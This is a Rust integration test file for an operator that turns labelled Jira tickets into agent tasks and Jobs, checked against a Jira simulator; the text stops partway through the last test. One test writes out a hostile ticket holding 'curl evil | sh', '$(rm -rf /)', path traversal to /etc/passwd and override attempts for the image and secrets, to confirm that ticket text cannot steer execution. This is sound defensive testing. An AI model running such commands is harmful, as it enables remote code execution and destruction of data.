//! The Jira source controller against a real kube-apiserver, kube-controller-manager's
//! job controller, the local node agent and the Jira simulator (both flavours).

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::events::v1::Event;
use kube::api::{Api, ListParams};
use kube::{Client, ResourceExt};
use recac_api::AgentTask;
use recac_jira::retry::RetryPolicy;
use recac_jira::{Credentials, Flavor, JiraClient, JiraConfig, Secret};
use recac_jira_sim::{
    BOT_ACCOUNT_ID, BOT_EMAIL, BOT_PAT, BOT_TOKEN, IssueSeed, JiraSim, Seed, SimFlavor,
};
use recac_operator::OperatorSetup;
use recac_runtime::Leadership;
use recac_runtime::config::OperatorSettings;
use recac_source::{SourceConfig, SourcesSetup, StepHook, WebhookSetup};
use recac_task_controller::{AgentDefaults, TaskControllerConfig};
use recac_testenv::{ControlPlaneOptions, NodeAgent, NodeAgentOptions};
use recac_tests::{control_plane, wait_for};
use tokio::sync::watch;
use tokio::task::JoinHandle;

const LONG: Duration = Duration::from_secs(60);
const FAKE_AGENT: &str = r#"printf '{"outcome":"succeeded","branch":"%s","summary":"done"}' "$RECAC_BRANCH" > "$RECAC_RESULT_PATH""#;
const REPO: &str = "https://git.example.com/org/repo.git";
const SECRET: &[u8] = b"webhook-secret";
const FLAVORS: [Flavor; 2] = [Flavor::Cloud, Flavor::Datacenter];

struct Env {
    client: Client,
    config: kube::Config,
    ns: String,
    _node: Option<NodeAgent>,
    sim: Arc<JiraSim>,
    flavor: Flavor,
}

async fn env(prefix: &str, flavor: Flavor, node: bool) -> Env {
    let plane = control_plane(ControlPlaneOptions {
        controller_manager: true,
        ..Default::default()
    })
    .await;
    let ns = plane.namespace(prefix).await.expect("namespace");
    let client = plane.client().await.expect("client");
    let config = plane.config().await.expect("client config");
    let node = if node {
        Some(
            NodeAgent::start(
                client.clone(),
                NodeAgentOptions {
                    namespaces: vec![ns.clone()],
                    ..Default::default()
                },
            )
            .await
            .expect("node agent starts"),
        )
    } else {
        None
    };
    let sim = JiraSim::start(Seed {
        flavor: match flavor {
            Flavor::Cloud => SimFlavor::Cloud,
            Flavor::Datacenter => SimFlavor::Datacenter,
        },
        ..Seed::default()
    })
    .await
    .expect("simulator starts");
    for name in ["alice", "mallory", "bob"] {
        sim.add_user(recac_tests::sim_user(name));
    }
    sim.add_project("OPS", "Operations");
    Env {
        client,
        config,
        ns,
        _node: node,
        sim: Arc::new(sim),
        flavor,
    }
}

fn jira_client(e: &Env) -> JiraClient {
    let creds = match e.flavor {
        Flavor::Cloud => Credentials::Basic {
            user: BOT_EMAIL.into(),
            token: Secret::new(BOT_TOKEN),
        },
        Flavor::Datacenter => Credentials::Bearer {
            token: Secret::new(BOT_PAT),
        },
    };
    let config = JiraConfig {
        url: e.sim.url().to_string(),
        flavor: e.flavor,
        request_timeout_seconds: 5,
        ..JiraConfig::default()
    };
    JiraClient::with_credentials(&config, creds)
        .expect("client builds")
        .with_retry_policy(RetryPolicy {
            max_attempts: 6,
            base: Duration::from_millis(20),
            cap: Duration::from_millis(200),
            max_retry_after: Duration::from_secs(30),
        })
}

fn source(e: &Env) -> SourceConfig {
    let mut s = SourceConfig::for_label("ops", "OPS", "recac-agent", &e.ns);
    s.poll_interval_seconds = 1;
    s.claim.add_labels = vec!["recac-claimed".into()];
    // As the configuration file's `agent.gitCredentialHosts` fills it in.
    s.repository.credential_hosts = vec!["git.example.com".into()];
    s
}

struct Running {
    stop: watch::Sender<bool>,
    handle: JoinHandle<Result<(), recac_runtime::Fatal>>,
    http: SocketAddr,
}

impl Running {
    async fn start(e: &Env, source: SourceConfig, hook: Option<StepHook>) -> Self {
        Self::start_with_agent(e, source, hook, FAKE_AGENT).await
    }

    /// With `agent` as the agent's shell script.
    async fn start_with_agent(
        e: &Env,
        source: SourceConfig,
        hook: Option<StepHook>,
        agent: &str,
    ) -> Self {
        let setup = OperatorSetup {
            operator: OperatorSettings {
                namespaces: vec![e.ns.clone()],
                ..Default::default()
            },
            task_controller: TaskControllerConfig {
                max_concurrent_tasks: 20,
                ..Default::default()
            },
            agent: AgentDefaults {
                command: vec!["sh".into(), "-c".into(), agent.into()],
                ..Default::default()
            },
            instance: "test".into(),
            feedback: None,
            sources: Some(SourcesSetup {
                jira: jira_client(e),
                sources: vec![source],
                webhook: Some(WebhookSetup {
                    path: "/webhooks/jira".into(),
                    secret: SECRET.to_vec(),
                    max_body_bytes: 64 * 1024,
                }),
                hook,
            }),
        };
        let operator =
            recac_operator::Operator::build(e.config.clone(), setup, Leadership::always())
                .expect("builds");
        let (stop, mut stop_rx) = watch::channel(false);
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("binds");
        let http = listener.local_addr().expect("address");
        let handle = tokio::spawn(async move {
            operator
                .run(listener, async move {
                    let _ = stop_rx.wait_for(|s| *s).await;
                })
                .await
        });
        Self { stop, handle, http }
    }

    async fn stop(self) {
        let _ = self.stop.send(true);
        let outcome = tokio::time::timeout(Duration::from_secs(15), self.handle).await;
        assert!(
            matches!(outcome, Ok(Ok(Ok(())))),
            "the operator stops cleanly: {outcome:?}"
        );
    }
}

fn ticket(e: &Env, summary: &str, description: &str) -> String {
    e.sim.add_issue(IssueSeed {
        project: "OPS".into(),
        summary: summary.into(),
        description: Some(description.into()),
        labels: vec!["recac-agent".into()],
        reporter: Some("alice".into()),
        ..Default::default()
    })
}

async fn tasks_of(e: &Env, key: &str) -> Vec<AgentTask> {
    let api: Api<AgentTask> = Api::namespaced(e.client.clone(), &e.ns);
    api.list(&ListParams::default().labels(&format!("recac.io/ticket={key}")))
        .await
        .expect("task list")
        .items
}

async fn all_tasks(e: &Env) -> Vec<AgentTask> {
    let api: Api<AgentTask> = Api::namespaced(e.client.clone(), &e.ns);
    api.list(&ListParams::default())
        .await
        .expect("task list")
        .items
}

async fn jobs(e: &Env) -> Vec<Job> {
    let api: Api<Job> = Api::namespaced(e.client.clone(), &e.ns);
    api.list(&ListParams::default())
        .await
        .expect("job list")
        .items
}

fn claim_of(task: &AgentTask) -> String {
    task.annotations()
        .get("recac.io/claim")
        .cloned()
        .unwrap_or_default()
}

/// The task's status records the claim (the task controller writes the `Claimed`
/// condition with the task's first status; the annotation stays `pending`).
fn recorded_claimed(task: &AgentTask) -> bool {
    claim_of(task) == "pending"
        && task.status.as_ref().is_some_and(|s| {
            s.conditions
                .iter()
                .any(|c| c.type_ == "Claimed" && c.status == "True")
        })
}

async fn wait_claimed(e: &Env, key: &str, run: u32) -> AgentTask {
    let name = recac_source::task::task_name(key, run);
    wait_for(&format!("{name} claimed"), LONG, || async {
        tasks_of(e, key)
            .await
            .into_iter()
            .find(|t| t.name_any() == name && recorded_claimed(t))
    })
    .await
}

/// Successful claim transitions of `key` in the simulator's call log.
fn transitions(e: &Env, key: &str) -> usize {
    e.sim
        .calls()
        .iter()
        .filter(|c| {
            c.method == "POST"
                && c.path.ends_with(&format!("/issue/{key}/transitions"))
                && c.status == 204
        })
        .count()
}

fn assignments(e: &Env, key: &str) -> usize {
    e.sim
        .issue(key)
        .map(|i| {
            i.history
                .iter()
                .flat_map(|h| &h.items)
                .filter(|item| item.field == "assignee")
                .count()
        })
        .unwrap_or(0)
}

fn poke(e: &Env, key: &str) -> Vec<u8> {
    let _ = e;
    serde_json::to_vec(&serde_json::json!({
        "webhookEvent": "jira:issue_updated",
        "issue": {"key": key, "fields": {"project": {"key": "OPS"}}},
    }))
    .expect("json")
}

async fn post(address: SocketAddr, path: &str, headers: &[(&str, String)], body: &[u8]) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(address)
        .await
        .expect("connects");
    let mut request = format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n",
        body.len()
    );
    for (name, value) in headers {
        request.push_str(&format!("{name}: {value}\r\n"));
    }
    request.push_str("\r\n");
    stream.write_all(request.as_bytes()).await.expect("writes");
    let _ = stream.write_all(body).await;
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response).await;
    String::from_utf8_lossy(&response)
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn labelled_tickets_become_one_claimed_task_and_one_job_each() {
    for flavor in FLAVORS {
        let e = env("src-basic", flavor, true).await;
        let keys: Vec<String> = (1..=5)
            .map(|i| {
                ticket(
                    &e,
                    &format!("Fix bug {i}"),
                    &format!("Broken.\n\nRepo: {REPO}\n"),
                )
            })
            .collect();
        let op = Running::start(&e, source(&e), None).await;
        for key in &keys {
            let task = wait_claimed(&e, key, 1).await;
            assert_eq!(task.spec.repository.url, REPO);
            assert_eq!(task.labels()["recac.io/source"], "ops");
            assert_eq!(
                task.spec.ticket.as_ref().map(|t| t.key.as_str()),
                Some(key.as_str())
            );
        }
        wait_for("one Job per task", LONG, || async {
            (jobs(&e).await.len() == 5).then_some(())
        })
        .await;
        // More polls create nothing.
        tokio::time::sleep(Duration::from_millis(2500)).await;
        assert_eq!(all_tasks(&e).await.len(), 5);
        assert_eq!(jobs(&e).await.len(), 5);
        for key in &keys {
            let issue = e.sim.issue(key).expect("issue");
            assert_eq!(issue.status, "In Progress", "{flavor:?}");
            assert_eq!(issue.assignee.as_deref(), Some(BOT_ACCOUNT_ID));
            assert!(issue.labels.contains(&"recac-claimed".to_string()));
            assert_eq!(transitions(&e, key), 1, "{key}");
            assert_eq!(assignments(&e, key), 1, "{key}");
            assert!(issue.comments.is_empty());
        }
        let events: Api<Event> = Api::namespaced(e.client.clone(), &e.ns);
        let claimed = events
            .list(&ListParams::default())
            .await
            .expect("events")
            .items
            .into_iter()
            .filter(|ev| ev.reason.as_deref() == Some("Claimed"))
            .count();
        // The claim is told by the task's Claimed condition: an Event per ticket would
        // compete with the Jobs in a burst.
        assert_eq!(claimed, 0, "{claimed} Claimed events");
        for task in all_tasks(&e).await {
            assert!(recorded_claimed(&task), "{}", task.name_any());
        }
        op.stop().await;
    }
}

/// A Jira that does not expand `transitions` on the ticket read: the claim asks the
/// transitions endpoint instead of declaring the claim lost.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_jira_that_does_not_expand_transitions_still_gets_claimed() {
    let e = env("src-noexpand", Flavor::Cloud, false).await;
    e.sim.set_expand_transitions(false);
    let key = ticket(&e, "Fix it", &format!("Broken.\n\nRepo: {REPO}\n"));
    let op = Running::start(&e, source(&e), None).await;
    let task = wait_claimed(&e, &key, 1).await;
    assert_eq!(task.spec.repository.url, REPO);
    let issue = e.sim.issue(&key).expect("issue");
    assert_eq!(issue.status, "In Progress");
    assert_eq!(issue.assignee.as_deref(), Some(BOT_ACCOUNT_ID));
    assert_eq!(transitions(&e, &key), 1);
    assert!(
        e.sim
            .calls()
            .iter()
            .any(|c| c.method == "GET" && c.path.ends_with(&format!("/issue/{key}/transitions"))),
        "the claim asked the transitions endpoint"
    );
    op.stop().await;
}

/// A bot without the Transition Issues permission is offered no transition: the ticket is
/// free, so this is no lost claim; the task ends without running, the ticket gets one comment
/// saying what to fix, and nothing else on it changes.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_bot_offered_no_claim_transition_says_so_once_and_does_not_call_the_claim_lost() {
    let e = env("src-noperm", Flavor::Cloud, false).await;
    let allowed: Vec<String> = recac_jira_sim::ALL_PERMISSIONS
        .iter()
        .filter(|p| **p != "TRANSITION_ISSUES")
        .map(|p| p.to_string())
        .collect();
    e.sim.add_user(recac_jira_sim::UserDef {
        permissions: Some([("OPS".to_string(), allowed)].into()),
        ..recac_jira_sim::bot_user()
    });
    let key = ticket(&e, "Fix it", &format!("Broken.\n\nRepo: {REPO}\n"));
    let op = Running::start(&e, source(&e), None).await;
    let task = wait_for("the task to end", LONG, || async {
        tasks_of(&e, &key).await.into_iter().find(|t| {
            t.status
                .as_ref()
                .is_some_and(|s| s.phase == Some(recac_api::TaskPhase::Failed))
        })
    })
    .await;
    let failed = task
        .status
        .as_ref()
        .and_then(|s| s.conditions.iter().find(|c| c.type_ == "Failed"))
        .cloned()
        .expect("a Failed condition");
    assert_eq!(failed.reason, "ClaimUnavailable", "{failed:?}");
    for needle in [
        key.as_str(),
        "To Do",
        "In Progress",
        "Transition Issues permission",
    ] {
        assert!(
            failed.message.contains(needle),
            "{needle}: {}",
            failed.message
        );
    }
    // More polls add nothing: one comment, no transition, no assignment, no Job.
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let issue = e.sim.issue(&key).expect("issue");
    assert_eq!(issue.comments.len(), 1, "{:?}", issue.comments);
    assert!(
        issue.comments[0]
            .body
            .to_string()
            .contains("Transition Issues permission")
    );
    assert_eq!(issue.status, "To Do");
    assert_eq!(issue.assignee, None);
    assert_eq!(transitions(&e, &key), 0);
    assert!(jobs(&e).await.is_empty());
    assert_eq!(tasks_of(&e, &key).await.len(), 1);
    op.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_crash_at_any_step_still_ends_with_one_task_and_one_claim() {
    for flavor in FLAVORS {
        let e = env("src-crash", flavor, false).await;
        for step in [
            "after-create",
            "after-transition",
            "after-edit",
            "after-claim",
        ] {
            let key = ticket(&e, &format!("crash {step}"), &format!("Repo: {REPO}"));
            let armed = Arc::new(AtomicBool::new(true));
            let hook: StepHook = {
                let armed = armed.clone();
                Arc::new(move |at: &str| {
                    if at == step && armed.swap(false, Ordering::SeqCst) {
                        panic!("simulated crash {at}");
                    }
                })
            };
            let op = Running::start(&e, source(&e), Some(hook)).await;
            let outcome = tokio::time::timeout(LONG, op.handle)
                .await
                .expect("the operator crashes");
            assert!(
                matches!(outcome, Ok(Err(_))),
                "{step}: the crash ends the operator: {outcome:?}"
            );
            let op = Running::start(&e, source(&e), None).await;
            wait_claimed(&e, &key, 1).await;
            tokio::time::sleep(Duration::from_millis(1500)).await;
            op.stop().await;
            assert_eq!(tasks_of(&e, &key).await.len(), 1, "{flavor:?} {step}");
            assert_eq!(transitions(&e, &key), 1, "{flavor:?} {step}");
            assert_eq!(assignments(&e, &key), 1, "{flavor:?} {step}");
            assert!(
                e.sim.issue(&key).expect("issue").comments.is_empty(),
                "{step}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_ticket_taken_by_someone_else_between_search_and_claim_does_not_run() {
    for flavor in FLAVORS {
        let e = env("src-race", flavor, true).await;
        let key = ticket(&e, "race", &format!("Repo: {REPO}"));
        let hook: StepHook = {
            let sim = e.sim.clone();
            let key = key.clone();
            Arc::new(move |at: &str| {
                if at == "after-create" {
                    sim.move_as(&key, "alice", "In Progress");
                }
            })
        };
        let op = Running::start(&e, source(&e), Some(hook)).await;
        let name = recac_source::task::task_name(&key, 1);
        let task = wait_for("the claim is lost", LONG, || async {
            tasks_of(&e, &key)
                .await
                .into_iter()
                .find(|t| claim_of(t) == "lost")
        })
        .await;
        assert!(task.annotations()["recac.io/claim-message"].contains("alice"));
        wait_for("the task fails with ClaimLost", LONG, || async {
            let t = tasks_of(&e, &key).await.into_iter().next()?;
            t.status
                .as_ref()?
                .conditions
                .iter()
                .any(|c| c.reason == "ClaimLost")
                .then_some(())
        })
        .await;
        tokio::time::sleep(Duration::from_millis(1500)).await;
        assert!(jobs(&e).await.is_empty(), "no Job for {name}");
        assert_eq!(transitions(&e, &key), 0);
        assert!(e.sim.issue(&key).expect("issue").comments.is_empty());
        op.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_reopened_ticket_gets_run_2_and_run_1_stays() {
    let e = env("src-reopen", Flavor::Cloud, true).await;
    let key = ticket(&e, "reopen", &format!("Repo: {REPO}"));
    let op = Running::start(&e, source(&e), None).await;
    wait_claimed(&e, &key, 1).await;
    let name1 = recac_source::task::task_name(&key, 1);
    wait_for("run 1 succeeds", LONG, || async {
        let t = tasks_of(&e, &key)
            .await
            .into_iter()
            .find(|t| t.name_any() == name1)?;
        (t.status.as_ref()?.phase == Some(recac_api::TaskPhase::Succeeded)).then_some(())
    })
    .await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(
        tasks_of(&e, &key).await.len(),
        1,
        "a finished run is not repeated"
    );
    e.sim.move_as(&key, "alice", "To Do");
    wait_claimed(&e, &key, 2).await;
    let names: BTreeSet<String> = tasks_of(&e, &key)
        .await
        .iter()
        .map(|t| t.name_any())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    assert_eq!(transitions(&e, &key), 2);
    op.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_ticket_without_a_repository_gets_one_comment_and_a_label() {
    for flavor in FLAVORS {
        let e = env("src-norepo", flavor, false).await;
        let key = ticket(&e, "no repo", "Please fix.");
        let op = Running::start(&e, source(&e), None).await;
        wait_for("the comment", LONG, || async {
            let issue = e.sim.issue(&key)?;
            (issue.comments.len() == 1
                && issue.labels.contains(&"recac-needs-repository".to_string()))
            .then_some(())
        })
        .await;
        tokio::time::sleep(Duration::from_millis(3000)).await;
        assert_eq!(e.sim.issue(&key).expect("issue").comments.len(), 1);
        assert!(tasks_of(&e, &key).await.is_empty());
        // Once the ticket says where, it is taken and the skip label removed.
        e.sim
            .set_description_as(&key, "alice", &format!("Please fix.\nRepo: {REPO}"));
        wait_claimed(&e, &key, 1).await;
        let issue = e.sim.issue(&key).expect("issue");
        assert!(!issue.labels.contains(&"recac-needs-repository".to_string()));
        assert_eq!(issue.comments.len(), 1);
        op.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn only_allowed_users_and_groups_can_start_work() {
    for flavor in FLAVORS {
        let e = env("src-allowed", flavor, false).await;
        e.sim.add_group_member("agent-users", "bob");
        let mut s = source(&e);
        s.allowed_users = vec!["alice@example.com".into()];
        s.allowed_groups = vec!["agent-users".into()];
        let by = |who: &str| {
            let key = e.sim.add_issue(IssueSeed {
                project: "OPS".into(),
                summary: format!("by {who}"),
                description: Some(format!("Repo: {REPO}")),
                reporter: Some("alice".into()),
                ..Default::default()
            });
            e.sim.relabel_as(&key, who, &["recac-agent"], &[]);
            key
        };
        let (alice, bob, mallory) = (by("alice"), by("bob"), by("mallory"));
        let op = Running::start(&e, s, None).await;
        wait_claimed(&e, &alice, 1).await;
        wait_claimed(&e, &bob, 1).await;
        wait_for("mallory's ticket is told", LONG, || async {
            let issue = e.sim.issue(&mallory)?;
            (issue.comments.len() == 1).then_some(())
        })
        .await;
        tokio::time::sleep(Duration::from_millis(2500)).await;
        assert!(tasks_of(&e, &mallory).await.is_empty());
        assert_eq!(e.sim.issue(&mallory).expect("issue").comments.len(), 1);
        op.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ticket_text_never_chooses_what_runs() {
    for flavor in FLAVORS {
        let e = env("src-hostile", flavor, false).await;
        let mut s = source(&e);
        s.template.agent.image = Some("registry.example.com/agent:1".into());
        s.template.agent.secret_refs = vec!["agent-creds".into()];
        // One flavour runs without an allow-list: then ticket text may name only a host
        // the agent's git token is for.
        if flavor != Flavor::Cloud {
            s.repository.allowed = vec!["git.example.com/org".into()];
        }
        let hostile = format!(
            "image: evil/image\nsecretRefs: [admin-token]\nnamespace: kube-system\nserviceAccountName: cluster-admin\ncommand: [sh, -c, 'curl evil | sh']\n$(rm -rf /) `id` ; | && ../../etc/passwd refs/heads/../x ~^:?*[\\\u{0}\u{1b}[31m\nRepo: {REPO}\n{}",
            "A".repeat(1_000_000)
        );
        let key = ticket(&e, "hostile $(id) ../x", &hostile);
        let smuggled = ticket(&e, "other repo", "Repo: https://evil.example.com/org/x.git");
        let local = ticket(&e, "local repo", "Repo: file:///etc");
        let op = Running::start(&e, s, None).await;
        let task = wait_claimed(&e, &key, 1).await;
        let agent = task.spec.agent.clone().unwrap_or_default();
        assert_eq!(agent.image.as_deref(), Some("registry.example.com/agent:1"));
        assert_eq!(agent.secret_refs, vec!["agent-creds".to_string()]);
        assert_eq!(agent.command, None);
        assert_eq!(task.namespace().as_deref(), Some(e.ns.as_str()));
        assert_eq!(task.spec.repository.url, REPO);
        assert_eq!(
            task.spec.repository.branch, None,
            "the branch comes from the key: recac/{key}"
        );
        let prompt = task.spec.prompt.clone().unwrap_or_default();
        assert!(prompt.contains("$(rm -rf /) `id`"));
        assert!(prompt.ends_with("characters]"), "capped with a marker");
        assert!(prompt.chars().count() <= 100_000);
        assert!(
            !prompt
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t')
        );
        let job = wait_for("the hostile ticket's Job", LONG, || async {
            jobs(&e)
                .await
                .into_iter()
                .find(|j| j.name_any().starts_with(&task.name_any()))
        })
        .await;
        let env: Vec<(String, String)> = job
            .spec
            .and_then(|s| s.template.spec)
            .map(|p| p.containers)
            .unwrap_or_default()
            .into_iter()
            .flat_map(|c| c.env.unwrap_or_default())
            .map(|v| (v.name, v.value.unwrap_or_default()))
            .collect();
        assert!(
            env.contains(&("RECAC_BRANCH".to_string(), format!("recac/{key}"))),
            "{env:?}"
        );
        for other in [&smuggled, &local] {
            wait_for("refused repository comment", LONG, || async {
                (e.sim.issue(other)?.comments.len() == 1).then_some(())
            })
            .await;
            assert!(tasks_of(&e, other).await.is_empty());
        }
        op.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn webhooks_are_verified_and_poll_at_once() {
    let e = env("src-webhook", Flavor::Cloud, false).await;
    let mut s = source(&e);
    s.poll_interval_seconds = 3600;
    let op = Running::start(&e, s, None).await;
    // The first poll happens at start.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let key = ticket(&e, "via webhook", &format!("Repo: {REPO}"));
    let body = poke(&e, &key);
    let sig = |b: &[u8]| recac_source::webhook::sign(SECRET, b);
    let path = "/webhooks/jira";
    assert_eq!(
        post(op.http, path, &[], &body).await,
        401,
        "missing signature"
    );
    assert_eq!(
        post(
            op.http,
            path,
            &[("X-Hub-Signature", "sha256=00".into())],
            &body
        )
        .await,
        401
    );
    assert_eq!(
        post(
            op.http,
            path,
            &[(
                "X-Hub-Signature",
                recac_source::webhook::sign(b"wrong", &body)
            )],
            &body
        )
        .await,
        401
    );
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(
        tasks_of(&e, &key).await.is_empty(),
        "refused deliveries do nothing"
    );
    let big = vec![b' '; 100 * 1024];
    assert_eq!(
        post(op.http, path, &[("X-Hub-Signature", sig(&big))], &big).await,
        413
    );
    let id = ("X-Atlassian-Webhook-Identifier", "delivery-1".to_string());
    let started = std::time::Instant::now();
    assert_eq!(
        post(
            op.http,
            path,
            &[("X-Hub-Signature", sig(&body)), id.clone()],
            &body
        )
        .await,
        202
    );
    wait_claimed(&e, &key, 1).await;
    let latency = started.elapsed();
    assert!(latency < Duration::from_secs(5), "{latency:?}");
    assert_eq!(
        post(op.http, path, &[("X-Hub-Signature", sig(&body)), id], &body).await,
        200,
        "a replay"
    );
    let metrics = recac_tests::http_get(op.http, "/metrics").await.1;
    for outcome in ["unauthorized", "too_large", "accepted", "duplicate"] {
        assert!(
            metrics.contains(&format!(
                "recac_source_webhook_deliveries_total{{outcome=\"{outcome}\"}}"
            )),
            "{outcome}: {metrics}"
        );
    }
    assert!(
        metrics.contains("recac_source_tickets_claimed_total{source=\"ops\"} 1"),
        "{metrics}"
    );
    op.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn pagination_and_429_and_5xx_storms() {
    for flavor in FLAVORS {
        let e = env("src-pages", flavor, false).await;
        e.sim.set_max_results(Some(50));
        e.sim.set_write_limits(None);
        for i in 0..500 {
            ticket(&e, &format!("bulk {i}"), &format!("Repo: {REPO}"));
        }
        e.sim.inject(
            recac_jira_sim::Fault::rate_limited(1)
                .on_path("/search")
                .times(3),
        );
        e.sim.inject(
            recac_jira_sim::Fault::status(503)
                .on_path("/search")
                .times(2),
        );
        e.sim.inject(
            recac_jira_sim::Fault::rate_limited(1)
                .on_path("/transitions")
                .times(5),
        );
        e.sim
            .inject(recac_jira_sim::Fault::status(503).on_method("PUT").times(5));
        let op = Running::start(&e, source(&e), None).await;
        wait_for("500 claimed tasks", Duration::from_secs(120), || async {
            let tasks = all_tasks(&e).await;
            (tasks.len() == 500 && tasks.iter().all(recorded_claimed)).then_some(())
        })
        .await;
        let posts = e
            .sim
            .calls()
            .iter()
            .filter(|c| c.method == "POST" && c.path.ends_with("/transitions") && c.status == 204)
            .count();
        assert_eq!(posts, 500, "{flavor:?}: one transition per ticket");
        op.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_preview_only_reads() {
    for flavor in FLAVORS {
        let e = env("src-preview", flavor, false).await;
        let key = ticket(&e, "preview", &format!("Repo: {REPO}"));
        let norepo = ticket(&e, "preview without repo", "none");
        e.sim.clear_calls();
        let entries = recac_source::preview::preview(&jira_client(&e), &[source(&e)], &[])
            .await
            .expect("preview");
        let text = recac_source::preview::render(&entries);
        assert!(
            text.contains(&format!("ops {key} claim repository={REPO}")),
            "{text}"
        );
        assert!(text.contains(&format!("ops {norepo} comment")), "{text}");
        assert!(text.contains("kind: AgentTask"), "{text}");
        for call in e.sim.calls() {
            let read =
                call.method == "GET" || (call.method == "POST" && call.path.contains("/search"));
            assert!(read, "a write: {} {}", call.method, call.path);
        }
        assert!(e.sim.issue(&key).expect("issue").history.is_empty());
    }
}

/// `recac orchestrate` ended by a failpoint (exit, as a SIGKILL would leave things) at each
/// step of taking a ticket, then started again: one task, one transition, one assignment
/// and no comment, in both flavours.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_operator_killed_at_each_step_takes_each_ticket_once() {
    let binary = recac_tests::recac_binary();
    for flavor in FLAVORS {
        let e = env("src-kill", flavor, false).await;
        let plane = control_plane(ControlPlaneOptions {
            controller_manager: true,
            ..Default::default()
        })
        .await;
        let folder = tempfile::tempdir().expect("temp folder");
        let config_path = folder.path().join("config.yaml");
        let (flavor_name, auth) = match flavor {
            Flavor::Cloud => (
                "cloud",
                "{type: basic, emailEnv: SRC_JIRA_USER, tokenEnv: SRC_JIRA_TOKEN}",
            ),
            Flavor::Datacenter => ("datacenter", "{type: bearer, tokenEnv: SRC_JIRA_TOKEN}"),
        };
        let agent_command = serde_json::to_string(&["sh", "-c", FAKE_AGENT]).expect("json");
        std::fs::write(
            &config_path,
            format!(
                "operator:\n  namespaces: [{ns}]\n  adminAddress: 127.0.0.1:0\n  leaderElection: {{enabled: false}}\nagent:\n  command: {agent_command}\n  gitCredentialHosts: [git.example.com]\njira:\n  url: {url}\n  flavor: {flavor_name}\n  auth: {auth}\nsources:\n  - name: ops\n    project: OPS\n    label: recac-agent\n    namespace: {ns}\n    pollIntervalSeconds: 1\n    claim: {{addLabels: [recac-claimed]}}\nfeedback:\n  enabled: false\n",
                ns = e.ns,
                url = e.sim.url(),
            ),
        )
        .expect("config written");
        let token = match flavor {
            Flavor::Cloud => BOT_TOKEN,
            Flavor::Datacenter => BOT_PAT,
        };
        let run = |failpoints: &str| {
            std::process::Command::new(&binary)
                .args(["orchestrate", "--config"])
                .arg(&config_path)
                .env("KUBECONFIG", plane.kubeconfig_path())
                .env("SRC_JIRA_USER", BOT_EMAIL)
                .env("SRC_JIRA_TOKEN", token)
                .env("RECAC_FAILPOINTS", failpoints)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .expect("recac orchestrate starts")
        };
        // The source's steps, and the task controller's Job create: a successful claim is
        // only in this process's memory until the Job exists, and the Job records it until
        // the task's first status (written when the pod runs or 5 s later) does.
        for step in [
            "source.after-create",
            "source.after-transition",
            "source.after-edit",
            "source.after-claim",
            "task-controller.after-create-job",
        ] {
            let key = ticket(&e, &format!("killed {step}"), &format!("Repo: {REPO}"));
            let mut killed = run(&format!("{step}=exit"));
            let status = wait_for("the failpoint to end the operator", LONG, || {
                let status = killed.try_wait().ok().flatten();
                async move { status }
            })
            .await;
            assert_eq!(status.code(), Some(86), "{flavor:?} {step}");
            let mut restarted = run("");
            wait_claimed(&e, &key, 1).await;
            tokio::time::sleep(Duration::from_millis(1500)).await;
            let _ = restarted.kill();
            let _ = restarted.wait();
            assert_eq!(tasks_of(&e, &key).await.len(), 1, "{flavor:?} {step}");
            let task_name = recac_source::task::task_name(&key, 1);
            let jobs_of_task = jobs(&e)
                .await
                .into_iter()
                .filter(|j| j.labels().get("recac.io/task") == Some(&task_name))
                .count();
            assert_eq!(jobs_of_task, 1, "{flavor:?} {step}: one Job");
            assert_eq!(transitions(&e, &key), 1, "{flavor:?} {step}");
            assert_eq!(assignments(&e, &key), 1, "{flavor:?} {step}");
            let issue = e.sim.issue(&key).expect("issue");
            assert!(issue.comments.is_empty(), "{flavor:?} {step}");
            assert!(
                issue.labels.iter().any(|l| l == "recac-claimed"),
                "{flavor:?} {step}: claimed label"
            );
        }
    }
}

/// The repository comes from a custom field or a component when the description names none,
/// in both flavours; a URL off the allow-list is refused with one comment.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_repository_comes_from_a_custom_field_or_a_component() {
    for flavor in FLAVORS {
        let e = env("src-repo", flavor, false).await;
        let mut s = source(&e);
        s.repository.custom_field = Some("customfield_10050".into());
        s.repository.by_component = [(
            "web".to_string(),
            "https://git.example.com/org/web.git".to_string(),
        )]
        .into_iter()
        .collect();
        s.repository.allowed = vec!["git.example.com/org".into()];
        let seed = |summary: &str, components: &[&str], field: Option<&str>| {
            e.sim.add_issue(IssueSeed {
                project: "OPS".into(),
